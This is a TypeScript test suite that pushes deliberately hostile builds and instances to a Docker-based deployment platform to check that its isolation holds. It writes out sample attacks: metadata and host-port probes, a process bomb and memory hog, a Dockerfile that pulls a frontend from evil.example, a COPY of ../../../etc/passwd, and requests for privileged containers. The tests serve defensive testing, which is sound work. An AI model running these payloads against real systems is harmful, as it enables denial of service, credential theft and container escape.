/** Cases 33 and 37 to 48 against a running platform on Docker: hostile builds and instances, pushed as people push. */
import { readdir, readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import type { Me } from '@teal/contracts';
import { removeFirewall, startFirewall } from '@teal/host';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { until } from '../conformance/until.ts';
import { ENGINES } from '../e2e/engines.ts';
import { TestPlatform } from '../e2e/platform.ts';
import { Repository } from '../e2e/repository.ts';
import { appSource } from '../e2e/source.ts';
import { unharmed } from './unharmed.ts';

const METADATA = '169.254.169.254';
const SUBNET = '10.232.0.0/16';
const canFilter = process.getuid?.() === 0;

/** Prints how each connection ends: `open`, an error's code, or `timeout`. */
const TRY = `
const net = require('node:net');
exports.attempt = (host, port) => new Promise((resolve) => {
  const socket = net.connect({ host, port: Number(port), timeout: 2500 });
  const end = (word) => { socket.destroy(); resolve(word); };
  socket.on('connect', () => end('open')).on('timeout', () => end('timeout')).on('error', (error) => end(error.code));
});
`;

/** Redirects its probes inside, with a body that never ends; ignores SIGTERM; connects where it is told to. */
const SERVER = `
const http = require('node:http');
const { attempt } = require('./try.js');
process.on('SIGTERM', () => {});
http.createServer(async (request, response) => {
  const url = new URL(request.url, 'http://x');
  if (url.pathname === '/try') return response.end(await attempt(url.searchParams.get('host'), url.searchParams.get('port')));
  response.writeHead(302, { location: process.env.INSIDE });
  const pour = () => { while (response.write('x'.repeat(65536))); };
  response.on('drain', pour);
  pour();
}).listen(process.env.PORT);
`;

function source(build: string, server = SERVER): Record<string, string> {
  const { 'package.json': _manifest, ...rest } = appSource({ version: 'attack' });
  const scripts = { start: 'node server.js', build: 'node build.js' };
  const manifest = JSON.stringify({ name: 'probe', version: '1.0.0', private: true, scripts });
  return { ...rest, 'package.json': manifest, 'server.js': server, 'try.js': TRY, 'build.js': build };
}

describe.runIf(ENGINES.includes('docker'))('hostile builds and instances', { timeout: 120_000 }, () => {
  let platform: TestPlatform;
  let repository: Repository;
  let listener: Server;
  let port: number;
  let connected = 0;
  /** This host, as builds and instances see it. */
  let host: string;
  /** The platform itself listens on loopback, as by default: this stands for one that was opened. */
  const platformId = `platform_${process.pid.toString(16).padStart(8, '0')}`;
  const watched = () => ({ platform, neighbour: 'neighbour' });

  beforeAll(async () => {
    host = networkInterfaces().docker0?.find(({ family }) => family === 'IPv4')?.address ?? '172.17.0.1';
    listener = createServer((socket) => {
      connected += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '0.0.0.0', resolve));
    port = (listener.address() as { port: number }).port;
    const environment = { TEAL_FIREWALL: 'auto', TEAL_SUBNETS: SUBNET, TEAL_BUILD_MEMORY_MIB: '384' };
    platform = await TestPlatform.start({ engine: 'docker', environment });
    await protect();
    for (const app of ['neighbour', 'attacker']) await platform.createApp(app);
    const theirs = await Repository.create(platform.gitUrl('neighbour'));
    await theirs.commit('v1', appSource({ version: 'v1' }));
    expect((await theirs.push()).stderr).toContain('is live at');
    await theirs.remove();
    repository = await Repository.create(platform.gitUrl('attacker'));
  }, 120_000);
  afterAll(async () => {
    await repository?.remove();
    await platform?.destroy();
    for (const id of [platformId, platform?.platformId])
      if (id !== undefined) await removeFirewall({ platformId: id, environment: process.env });
    listener?.close();
  });

  async function protect(): Promise<void> {
    const rules = { sources: [SUBNET, 'docker0'], ports: [port] };
    const firewall = await startFirewall({ platformId, rules, environment: process.env, say: () => {} });
    if (canFilter) expect(firewall.trouble).toBeNull();
    await firewall.close();
  }

  async function push(message: string, files: Record<string, string>): Promise<string> {
    await repository.git('rm', '-q', '-r', '--ignore-unmatch', '.');
    await repository.commit(message, files);
    return (await repository.push()).stderr;
  }
  const attempt = async (where: string, at: number) =>
    (await platform.get('attacker', `/try?host=${where}&port=${at}`)).text;

  it('38, 42, 48: a build reaches nothing of the platform, a probe follows nowhere and reads no end', async () => {
    await platform.call('PATCH', '/apps/attacker/environment', {
      set: { INSIDE: `http://127.0.0.1:${port}/`, SECRET: 'hunter2hunter2' },
    });
    const targets = [
      [METADATA, 80],
      [host, port],
      ['127.0.0.1', 5432],
    ];
    const build = `
      const { attempt } = require('./try.js');
      const { existsSync } = require('node:fs');
      Promise.all(${JSON.stringify(targets)}.map(([host, port]) => attempt(host, port))).then((ends) => {
        console.log('TRIED', ends.join(' '), existsSync('/var/run/docker.sock'));
      });`;
    const stderr = await push('first', source(build));
    expect(stderr).toContain('is live at');
    // Refused at once, not lost somewhere in the network.
    expect(stderr).toContain('TRIED ECONNREFUSED ECONNREFUSED ECONNREFUSED false');
    expect(stderr).not.toContain('hunter2');
    expect(connected).toBe(0);
  });

  it('a runtime that Docker does not know is refused at the start, naming those it knows', async () => {
    const environment = { TEAL_RUNTIME: 'runsc-of-nobody' };
    await expect(TestPlatform.start({ engine: 'docker', environment })).rejects.toMatchObject({
      code: 'configuration_invalid',
      message: expect.stringMatching(/TEAL_RUNTIME: Docker has no runtime "runsc-of-nobody", only .*runc/),
    });
  });

  it('45, 46: an instance reaches no metadata, no port of the platform, no neighbour, and can ask for no more', async () => {
    await unharmed(watched(), async () => {
      expect(await attempt(METADATA, 80)).toBe('ECONNREFUSED');
      expect(await attempt(host, port)).toBe('ECONNREFUSED');
      expect(connected).toBe(0);
      const [instance] = (await platform.instances('neighbour')).filter(({ address }) => address !== null);
      expect(await attempt(instance?.address?.host ?? '', 8080)).not.toBe('open');
      for (const bad of [
        { privileged: true },
        { network: 'host' },
        { volumes: ['/:/host'] },
        { capabilities: ['ALL'] },
      ])
        expect((await platform.call('PATCH', '/apps/attacker', { settings: bad })).status).toBe(422);
    });
  });

  it.runIf(canFilter)('a filter that is gone turns that red, and is in force again by itself', async () => {
    await removeFirewall({ platformId, environment: process.env });
    expect(await attempt(host, port)).toBe('open');
    const rules = { sources: [SUBNET, 'docker0'], ports: [port] };
    const said: string[] = [];
    const say = (line: string) => void said.push(line);
    const firewall = await startFirewall({ platformId, rules, environment: process.env, say, repairMs: 50 });
    await removeFirewall({ platformId, environment: process.env });
    await until('it is in force again', async () => (await attempt(host, port)) === 'ECONNREFUSED');
    await until('it is said', () => said.length > 0);
    await firewall.close();
  });

  it('37: a build that wants all memory, or all processes, fails alone', async () => {
    await unharmed(watched(), async () => {
      const hog = `const kept = []; for (;;) kept.push(Buffer.alloc(16 * 1024 * 1024, 1));`;
      expect(await push('hog', source(hog))).toMatch(/DEPLOYMENT FAILED while building/);
      const bomb = `
        const fork = 'i=0; while [ $i -lt 3000 ]; do sleep 60 & i=$((i+1)); done';
        require('node:child_process').execFileSync('sh', ['-c', fork], { stdio: 'inherit' });`;
      expect(await push('bomb', source(bomb))).toMatch(/DEPLOYMENT FAILED while building/);
    });
  });

  it('33, 43: a line without end and a flood of lines are cut', async () => {
    await unharmed(watched(), async () => {
      const flood = `
        const { writeSync } = require('node:fs');
        const write = (text) => { let rest = Buffer.from(text); while (rest.length > 0) { try { rest = rest.subarray(writeSync(1, rest)); } catch (error) { if (error.code !== 'EAGAIN') throw error; } } };
        for (let n = 0; n < 64; n += 1) write('x'.repeat(1024 * 1024));
        write('\\n\\xff\\xfe\\u202e bidi\\n');
        for (let n = 0; n < 500; n += 1) write('a line of a flood\\n'.repeat(2000));
        process.exit(1);`;
      expect((await push('flood', source(flood))).length).toBeLessThan(16 * 1024 * 1024);
      const [deployment] = await platform.deployments('attacker');
      expect(deployment?.state).toBe('failed');
      const log = await platform.log('attacker', deployment?.id ?? '');
      expect(log.length).toBeLessThan(11 * 1024 * 1024);
    });
  });

  it('39: a build that never ends stops when it is cancelled, with its children', async () => {
    await unharmed(watched(), async () => {
      const marker = '98765.25';
      const sleeper = `require('node:child_process').execFileSync('sleep', ['${marker}']);`;
      const pushed = push('sleeper', source(`console.log('SLEEPING'); ${sleeper}`));
      const deployment = await until(
        'it sleeps',
        async () => {
          const [newest] = await platform.deployments('attacker');
          if (newest === undefined || newest.state !== 'building') return false;
          return (await platform.log('attacker', newest.id)).includes('SLEEPING') && newest;
        },
        60_000,
      );
      await platform.call('POST', `/apps/attacker/deployments/${deployment.id}/cancel`);
      expect((await platform.ended('attacker', deployment.id)).state).toBe('cancelled');
      await pushed;
      await until('nothing sleeps', async () => !(await runs(marker)));
    });
  });

  it('40, 41: a stranger’s front end is refused; what lies outside the source is not found', async () => {
    await unharmed(watched(), async () => {
      const foreign = '# syntax=evil.example/frontend:1\nFROM scratch\n';
      expect(await push('frontend', { Dockerfile: foreign })).toMatch(/DEPLOYMENT FAILED[\s\S]*evil\.example/);
      const outside = 'FROM scratch\nCOPY ../../../etc/passwd /stolen\n';
      expect(await push('outside', { Dockerfile: outside })).toMatch(/DEPLOYMENT FAILED while building/);
    });
  });

  it('44: a build takes nothing from what another organisation has built, not even with the same words', async () => {
    const mine = (await platform.call<Me>('GET', '/me')).body.organisation;
    const others = (await platform.call<{ id: string }>('POST', '/organisations', { name: 'Others' })).body;
    const files = {
      Dockerfile: [
        'FROM teal/node:24',
        'USER root',
        `RUN --mount=type=cache,id=shared,target=/cache cat /cache/secret 2>/dev/null; head -c 9 /dev/urandom | base64 | tee /cache/secret > /secret # ${platformId}`,
        'COPY server.js .',
        'CMD ["node", "server.js"]',
      ].join('\n'),
      'server.js': `require('node:http').createServer((request, response) => response.end(require('node:fs').readFileSync('/secret'))).listen(8080);`,
    };
    const secrets: string[] = [];
    for (const [app = '', organisation] of [
      ['cached', mine?.id],
      ['curious', others.id],
    ]) {
      expect((await platform.call('POST', '/apps', { name: app, organisation })).status).toBe(201);
      const own = await Repository.create(platform.gitUrl(app));
      await own.commit('same', files);
      const { stderr } = await own.push();
      expect(stderr).toContain('is live at');
      secrets.push((await platform.get(app)).text.trim());
      expect(stderr).not.toContain(secrets[0]);
      await own.remove();
    }
    expect(secrets[0]).toMatch(/^\S{12}$/);
    expect(secrets[1]).toMatch(/^\S{12}$/);
    expect(secrets[1]).not.toBe(secrets[0]);
  });

  it('47: an instance that ignores SIGTERM is killed after its grace', async () => {
    expect((await platform.call('POST', '/apps/attacker/stop')).status).toBeLessThan(300);
    await until('nothing of it runs', async () => (await platform.instances('attacker')).length === 0, 30_000);
    expect((await platform.get('neighbour')).status).toBe(200);
  });
});

async function runs(word: string): Promise<boolean> {
  const pids = (await readdir('/proc')).filter((entry) => /^\d+$/.test(entry));
  const lines = await Promise.all(pids.map((pid) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')));
  return lines.some((line) => line.split('\0').includes(word) && line.startsWith('sleep'));
}
